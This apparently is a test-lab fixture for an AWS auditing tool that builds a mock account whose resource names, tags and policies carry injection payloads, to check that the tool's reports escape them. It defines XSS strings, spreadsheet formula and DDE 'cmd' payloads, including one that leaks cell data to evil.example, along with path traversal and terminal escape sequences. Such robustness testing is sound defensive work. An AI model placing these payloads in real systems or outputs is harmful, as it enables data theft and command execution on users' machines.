"""An account whose names, tags and policies are hostile, built into the lab as its own account."""

from __future__ import annotations

import json
from typing import Any

import boto3

from awsaudit.lab.clients import LabAccount
from awsaudit.lab.server import Lab

HOSTILE_ACCOUNT = "210987654321"
SCRIPT = '<script>alert("owned")</script>'
IMAGE = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1)'
FORMULAS = (FORMULA, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
TRAVERSAL = "../../../../tmp/owned"
# Only JSON-protocol services carry these: XML 1.0 cannot, so AWS's XML APIs never return them.
CONTROL = "bell\x07 escape\x1b[2J\x1b]0;owned\x07 nul\x00 end"
BIG = "v" * 65_536
HOSTILE_GROUP = f"{IMAGE}/../{SCRIPT}"


def _nested(depth: int) -> Any:
    value: Any = "x"
    for _ in range(depth):
        value = [value]
    return value


def hostile_session(lab: Lab) -> boto3.Session:
    """Credentials of the hostile account (moto keeps each assumed account's state apart)."""
    credentials = (
        LabAccount(lab)
        .client("sts")
        .assume_role(
            RoleArn=f"arn:aws:iam::{HOSTILE_ACCOUNT}:role/audit", RoleSessionName="awsaudit-robustness"
        )["Credentials"]
    )
    return boto3.Session(
        aws_access_key_id=credentials["AccessKeyId"],
        aws_secret_access_key=credentials["SecretAccessKey"],
        aws_session_token=credentials["SessionToken"],
        region_name="us-east-1",
    )


def build_hostile_account(lab: Lab, session: boto3.Session) -> None:
    """Users, security groups, a bucket, keys and policies named and tagged to attack every output."""
    account = LabAccount(lab, HOSTILE_ACCOUNT, session)
    iam = account.client("iam")
    for name in (SCRIPT, FORMULA, "../../etc/passwd"):
        iam.create_user(UserName=name, Path="/../../")
        # An inline policy and an access key make the user the subject of failing checks.
        iam.put_user_policy(
            UserName=name,
            PolicyName=f"inline-{len(name)}",
            PolicyDocument=json.dumps(
                {
                    "Version": "2012-10-17",
                    "Statement": [{"Sid": "Script", "Effect": "Allow", "Action": "*", "Resource": "*"}],
                }
            ),
        )
        iam.create_access_key(UserName=name)
    iam.create_user(UserName="tagged", Tags=[{"Key": SCRIPT, "Value": BIG}])
    many_values = {"StringLike": {"aws:PrincipalTag/team": [f"{FORMULAS[n % 4]}{n}" for n in range(2000)]}}
    iam.create_policy(
        PolicyName="very-large",
        PolicyDocument=json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [
                    {
                        "Sid": f"S{n}",
                        "Effect": "Allow",
                        "Action": "iam:*",
                        "Resource": "*",
                        "Condition": many_values,
                    }
                    for n in range(3)
                ],
            }
        ),
    )
    iam.put_user_policy(
        UserName="tagged",
        PolicyName="deeply-nested",
        PolicyDocument=json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [
                    {
                        "Effect": "Allow",
                        "Action": "*",
                        "Resource": "*",
                        "Condition": {"StringEquals": {"aws:username": _nested(400)}},
                    }
                ],
            }
        ),
    )
    for region in ("us-east-1", "eu-west-1"):
        ec2 = account.client("ec2", region)
        group = ec2.create_security_group(GroupName=HOSTILE_GROUP, Description=FORMULAS[1])["GroupId"]
        ec2.authorize_security_group_ingress(
            GroupId=group,
            IpPermissions=[
                {
                    "IpProtocol": "tcp",
                    "FromPort": 22,
                    "ToPort": 22,
                    "IpRanges": [{"CidrIp": "0.0.0.0/0", "Description": SCRIPT}],
                }
            ],
        )
        ec2.create_tags(
            Resources=[group],
            Tags=[{"Key": "Name", "Value": FORMULAS[3]}, {"Key": "big", "Value": BIG[:255]}],
        )
        account.client("kms", region).create_key(
            Description=f"{SCRIPT} {CONTROL}", Tags=[{"TagKey": FORMULAS[2], "TagValue": CONTROL}]
        )
    s3 = account.client("s3")
    s3.create_bucket(Bucket="hostile-public-bucket")
    s3.put_bucket_policy(
        Bucket="hostile-public-bucket",
        Policy=json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [
                    {
                        "Sid": SCRIPT,
                        "Effect": "Allow",
                        "Principal": "*",
                        "Action": "s3:GetObject",
                        "Resource": "arn:aws:s3:::hostile-public-bucket/*",
                    }
                ],
            }
        ),
    )
    s3.put_bucket_tagging(
        Bucket="hostile-public-bucket", Tagging={"TagSet": [{"Key": FORMULA, "Value": SCRIPT}]}
    )
